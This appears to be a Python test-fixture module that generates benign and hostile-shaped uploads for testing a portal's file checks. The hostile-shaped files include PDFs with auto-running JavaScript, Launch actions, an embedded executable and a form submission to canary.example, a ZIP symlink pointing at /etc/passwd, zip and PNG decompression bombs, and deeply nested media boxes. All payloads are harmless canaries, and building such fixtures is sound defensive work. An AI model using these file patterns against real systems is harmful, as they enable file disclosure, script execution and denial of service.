"""Files made on the spot: harmless ones, and the kinds that were used against other portals."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from PIL import Image

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
MAIN = {
    "docx": ("word/document.xml", f"{DOCX}.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}


def image(kind="JPEG", size=(60, 40), colour="#5a2a86", mode="RGB", **options):
    out = BytesIO()
    Image.new(mode, size, colour).save(out, kind, **options)
    return out.getvalue()


def tagged_exif():
    """GPS, owner, an upside-down camera."""
    exif = Image.Exif()
    exif[0x0112] = 3
    exif[0x010F] = "CanonOwnerMark"
    exif[0x013B] = "Hana Head"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (51.0, 30.0, 26.0)
    return exif


def pdf(change=lambda document: None, **save):
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    change(document)
    out = BytesIO()
    document.save(out, **save)
    return out.getvalue()


def script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('canary')")


def launch(document):
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 100, 100],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="canary.exe"),
    )
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(annotation)])


def page_trigger(document):
    document.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('canary')")
    )


def attached(document):
    document.attachments["canary.exe"] = b"MZ canary"


def chained(document):
    """A harmless action whose follower runs a script."""
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo,
        Next=pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('canary')")]),
    )


def submit_form(document):
    button = document.make_indirect(
        pikepdf.Dictionary(
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Btn,
            T="send",
            Rect=[0, 0, 9, 9],
            A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://canary.example/"),
        )
    )
    document.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([button]),
        XFA=pikepdf.Array(["template", document.make_stream(b"<xfa>canary</xfa>")]),
    )
    document.pages[0].Annots = pikepdf.Array([button])


def web_link(document):
    document.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 9, 9],
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.ase.org.uk/"),
            )
        ]
    )


def office(kind="docx", extra=(), content_type=""):
    part, main = MAIN[kind]
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types><Override PartName="/{part}" ContentType="{content_type or main}"/></Types>',
        )
        archive.writestr(part, "<document/>")
        for name, content in extra:
            archive.writestr(name, content)
    return out.getvalue()


def archive(*members):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members:
            made.writestr(name, content)
    return out.getvalue()


def symbolic_link():
    info = zipfile.ZipInfo("word/media/image1.png")
    info.external_attr = 0o120777 << 16
    return office(extra=[(info, "/etc/passwd")])


def zip_bomb(megabytes=400):
    """A Word file of a few hundred kilobytes that expands to more than any of ours may."""
    out = BytesIO(office())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as made,
        made.open("word/media/0.bin", "w") as member,
    ):
        for _ in range(megabytes):
            member.write(bytes(1024 * 1024))
    return out.getvalue()


def many_members(count=6_000):
    return office(extra=[(f"word/media/{number}.txt", "") for number in range(count)])


def png_bomb(side=30_000):
    """A PNG that says it is 30,000 × 30,000 and is a few kilobytes."""

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1024 * 1024), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def box(kind, body=b""):
    return struct.pack(">I", 8 + len(body)) + kind + body


def film(brand=b"isom", place=b"+51.5074-000.1278/"):
    moov = box(b"mvhd", bytes(100)) + box(b"udta", box(b"\xa9xyz", place))
    return (
        box(b"ftyp", brand + bytes(4) + b"isommp42")
        + box(b"moov", moov + box(b"trak", box(b"udta", place)))
        + box(b"mdat", bytes(64))
    )


def nested_film(depth=1500):
    """Boxes in boxes, deeper than Python calls itself."""
    inner = b""
    for _ in range(depth):
        inner = box(b"moov", inner)
    return box(b"ftyp", b"isom" + bytes(12)) + inner


def broken_office():
    """The list of the ZIP is right; what it says is packed can't be unpacked."""
    whole = office()
    start = whole.index(b"[Content_Types].xml") + len("[Content_Types].xml")
    return whole[:start] + b"\xff" * 8 + whole[start + 8 :]


HTML = b"<!doctype html><html><body><script>alert('canary')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("canary")</script></svg>'
